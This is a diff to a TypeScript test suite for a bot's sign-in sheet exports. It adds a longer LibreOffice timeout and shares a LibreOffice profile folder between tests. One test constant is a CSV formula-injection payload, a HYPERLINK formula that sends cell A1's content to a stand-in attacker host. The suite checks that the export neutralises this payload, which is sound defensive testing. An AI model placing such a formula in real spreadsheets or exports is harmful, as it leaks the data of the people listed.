@@ -16,6 +16,9 @@ const INJECTED_NAME = '=HYPERLINK("http://evil.example/?d="&A1;"voir")';
 const LONG_ORGANISATION = "Maison départementale des solidarités de Moissac et Castelsarrasin – antenne de Valence d’Agen";
 const QUESTION = "Souhaitez-vous un repas végétarien, sans gluten ou adapté à une allergie ? Précisez";
 
+// LibreOffice starts slowly on a loaded machine (the whole suite runs in parallel): more than the default minute.
+const LIBREOFFICE_TIMEOUT = 180_000;
+
 let bot: TestBot;
 let xlsx: FileRef;
 let csv: FileRef;
@@ -51,7 +54,7 @@ const trimmed = (row: unknown[]) => {
 };
 
 describe("the émargement's CSV", () => {
-  it("keeps a name or an answer that looks like a formula as text, in our parser and in LibreOffice", async () => {
+  it("keeps a name or an answer that looks like a formula as text, in our parser and in LibreOffice", { timeout: LIBREOFFICE_TIMEOUT }, async () => {
     const text = Buffer.from(csv.content!).toString("utf8");
     // Prefixed with an apostrophe and quoted, as OWASP's CSV injection page describes.
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1;""voir"")"`);
@@ -86,8 +89,9 @@ describe("the émargement's workbook", () => {
     expect(wrappedLines(LONG_ORGANISATION, 28)).toBeGreaterThan(2);
   });
 
-  it("LibreOffice prints it on one A4 landscape page with nothing cut, and reads the values the bot wrote", async () => {
-    const folder = join(scratch.path, "workbook");
+  it("LibreOffice prints it on one A4 landscape page with nothing cut, and reads the values the bot wrote", { timeout: LIBREOFFICE_TIMEOUT }, async () => {
+    // The same folder, so the same LibreOffice profile, as the CSV test: a second profile costs a slower start.
+    const folder = scratch.path;
     const files = [{ name: "emargement.xlsx", bytes: xlsx.content! }];
     const pdf = await libreOfficeConvert(folder, files, "pdf");
     const pages = await pdfPages(join(pdf, "emargement.pdf"));
